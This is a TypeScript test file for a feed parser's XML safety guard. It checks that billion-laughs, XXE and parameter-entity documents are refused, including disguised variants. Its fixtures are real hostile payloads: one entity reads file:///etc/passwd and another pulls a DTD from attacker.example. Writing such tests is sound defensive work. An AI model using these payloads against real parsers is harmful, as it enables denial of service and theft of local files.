import { describe, expect, it } from 'vitest';
import { FeedParseError } from './errors.ts';
import { parseFeed } from './parse-feed.ts';
import { utf8 } from './testdata/read.ts';
import { assertNoEntityDeclaration, assertSafeXml } from './xml-safety.ts';
import { parseXml, textContent } from './xml-tree.ts';
import { reasonOf } from './testdata/read.ts';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title></channel></rss>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>`;

const PARAMETER_ENTITIES = `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>`;

describe('assertSafeXml', () => {
  it('refuses the billion-laughs document, quickly, before any expansion', () => {
    // CPU time, so a busy machine does not fail it: an expansion would take seconds of CPU.
    const started = process.cpuUsage();
    expect(reasonOf(() => parseFeed(utf8(BILLION_LAUGHS), 'application/rss+xml'))).toBe(
      'XML entity declarations are not allowed (possible entity-expansion attack)',
    );
    const used = process.cpuUsage(started);
    expect((used.user + used.system) / 1000).toBeLessThan(500);
  });

  it('refuses external entities (XXE)', () => {
    expect(reasonOf(() => parseFeed(utf8(XXE), null))).toBe(
      'XML external entity declarations are not allowed (possible XXE attack reading local files or URLs)',
    );
  });

  it('refuses parameter entities', () => {
    expect(reasonOf(() => assertSafeXml(PARAMETER_ENTITIES))).toBe(
      'XML parameter entity declarations are not allowed (possible entity-expansion or external-entity attack)',
    );
  });

  it('refuses a lower-case spelling and a declaration hidden after the root element', () => {
    expect(() => assertSafeXml('<!doctype r [<!entity a "b">]><r/>')).toThrow(FeedParseError);
    expect(() => assertSafeXml('<rss><!DOCTYPE x [<!ENTITY a "b">]></rss>')).toThrow(FeedParseError);
  });

  it('accepts a plain DOCTYPE, and "<!ENTITY" as text inside CDATA or a comment', () => {
    expect(() =>
      assertSafeXml(
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>',
      ),
    ).not.toThrow();
    expect(() =>
      assertSafeXml(
        '<rss><!-- <!ENTITY x "y"> --><description><![CDATA[How <!ENTITY xxe SYSTEM> works]]></description></rss>',
      ),
    ).not.toThrow();
  });

  it('is not weakened by the lenient pass: a declaration anywhere in a broken document refuses it', () => {
    // assertSafeXml stops at an unterminated comment (the strict parser refuses the document anyway);
    // the lenient pass would read on, so it looks again, everywhere, before reading.
    const hidden = `<rss><channel><item><title>a</title></item><!-- unterminated <!ENTITY xxe SYSTEM "file:///etc/passwd"> &xxe;`;
    expect(() => assertSafeXml(hidden)).not.toThrow();
    expect(reasonOf(() => parseFeed(utf8(hidden), null))).toBe(
      'XML external entity declarations are not allowed (possible XXE attack reading local files or URLs)',
    );
    expect(reasonOf(() => parseFeed(utf8(`${XXE.replace('</rss>', '</rss')}`), null))).toMatch(/XXE/);
    expect(() => assertNoEntityDeclaration('<rss><title>no declarations</title></rss>')).not.toThrow();
  });

  it('is not the only defence: the XML parser itself never expands declared entities', () => {
    const root = parseXml('<!DOCTYPE r [<!ENTITY a "EXPANDED">]><r>&a;</r>');
    expect(textContent(root)).toBe('&a;');
  });
});
